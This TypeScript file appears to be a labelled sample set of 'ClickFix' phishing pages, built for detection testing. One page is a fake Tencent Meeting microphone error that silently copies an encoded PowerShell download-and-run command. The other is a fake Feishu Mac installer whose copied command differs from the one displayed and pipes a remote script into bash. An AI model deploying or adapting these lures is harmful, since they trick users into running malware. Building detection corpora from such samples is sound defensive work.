import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, baseCss, fontTC, fontSC, mark, footer, b64 } from '../parts/yq-kit.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
    id: 'yq-clickfix-tencent-meeting-mic-error',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://meeting-tencent.join-room.cc/j/82433961/',
    body: doc({
      title: '腾讯会议 - 加入会议',
      lang: 'zh-CN',
      css:
        baseCss(fontSC, '#1c1f26', '#eee') +
        `.w{max-width:860px;margin:40px auto;padding:0 20px}
.vid{height:380px;background:#0f1115;border-radius:10px;display:flex;align-items:center;justify-content:center;color:#666;position:relative}
.bar{display:flex;gap:12px;justify-content:center;margin-top:16px}.bar button{background:#2b2f3a;color:#eee;border:0;border-radius:6px;padding:10px 18px}
.er{position:fixed;inset:0;background:rgba(0,0,0,.6);display:none;align-items:center;justify-content:center}
.er .in{background:#fff;color:#222;width:500px;border-radius:10px;padding:22px}
code{display:block;background:#f3f4f6;border-radius:4px;padding:8px;font-size:12px;word-break:break-all;color:#333}
.go{background:#0a6cff;color:#fff;height:40px;padding:0 26px;border-radius:6px}`,
      body: `<div class="w"><h2 style="margin:0 0 6px">跨境业务季度复盘会</h2><p class="hint" style="color:#999">会议号 824 339 61 · 主持人：周经理</p>
<div class="vid">正在连接音频设备…</div>
<div class="bar"><button id="mic">🎤 解除静音</button><button>📷 开启视频</button><button>共享屏幕</button><button style="background:#e5484d">离开</button></div></div>
<div class="er" id="er"><div class="in"><h3 style="margin-top:0">无法访问麦克风（错误 0x80070005）</h3>
<p>浏览器音频驱动与会议组件不兼容。请按以下步骤修复后重新加入：</p>
<ol><li>点击“复制修复命令”</li><li>按 <b>Win + R</b>，输入 <b>powershell</b> 回车</li><li>在窗口中右键粘贴并回车，等待提示“修复完成”</li></ol>
<code id="cmd"></code><p><button class="btn go" id="cp">复制修复命令</button></p></div></div>
<script>
(function(){
var a='JABzAD0AJwBoAHQAdABwAHMAOgAvAC8AbQBlAGUAdABpAG4AZwAtAHQAZQBuAGMAZQBuAHQALgBqAG8AaQBuAC0AcgBvAG8AbQAuAGMAYwAvAGEAdQBkAGkAbwBmAGkAeAAuAHAAcwAxACcAOwBpAGUAeAAoAGkAcgBtACAAJABzACkA';
var cmd='powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand '+a;
document.getElementById('cmd').textContent='powershell.exe -NoProfile ... (音频组件修复)';
setTimeout(function(){document.getElementById('er').style.display='flex'},2500);
document.getElementById('mic').onclick=function(){document.getElementById('er').style.display='flex'};
document.getElementById('cp').onclick=function(){navigator.clipboard.writeText(cmd);this.textContent='已复制 ✓';};})();
</script>`,
    }),
  },
  {
    id: 'yq-clickfix-feishu-mac-terminal-curl',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://feishu-mac.app-install.site/zh/',
    body: doc({
      title: '飞书 Mac 版 - 安装',
      lang: 'zh-CN',
      css:
        baseCss(`-apple-system,"PingFang SC",sans-serif`, '#f5f6f7') +
        `.w{max-width:720px;margin:60px auto;background:#fff;border-radius:14px;padding:40px;box-shadow:0 8px 30px rgba(0,0,0,.06)}
.tm{background:#1e1e1e;color:#d4d4d4;font-family:Menlo,monospace;font-size:13px;padding:14px;border-radius:8px;display:flex;justify-content:space-between;align-items:center;gap:10px}
.tm span{overflow:hidden;white-space:nowrap;text-overflow:ellipsis}
.cp{background:#3370ff;color:#fff;border:0;border-radius:6px;padding:6px 14px;cursor:pointer}
ol li{margin:10px 0}`,
      body: `<div class="w">${mark('飞书 Feishu', '#3370ff', { shape: 'diamond', w: 150 })}
<h1 style="margin:16px 0 6px">在 macOS 上安装飞书</h1>
<p class="hint">适用于 macOS 11 及以上（Apple 芯片 / Intel）· 版本 7.14.5</p>
<p>由于 App Store 区域限制，请使用官方命令行安装器完成安装：</p>
<ol><li>按 <b>⌘ Command + 空格</b>，输入 <b>终端</b> 并打开</li><li>复制下方命令，粘贴到终端中并按回车</li><li>如提示输入密码，请输入您的 Mac 开机密码（输入时不显示）</li></ol>
<div class="tm"><span id="c">/bin/bash -c "$(curl -fsSL https://feishu-mac.app-install.site/install.sh)"</span><button class="cp" id="b">复制</button></div>
<p class="hint" style="margin-top:18px">安装完成后可在“启动台”中找到飞书。</p></div>
<script>document.getElementById('b').onclick=function(){var real='curl -fsSL https://feishu-mac.app-install.site/i | base64 -d | bash';navigator.clipboard.writeText(real);this.textContent='已复制';};</script>`,
    }),
  },
];
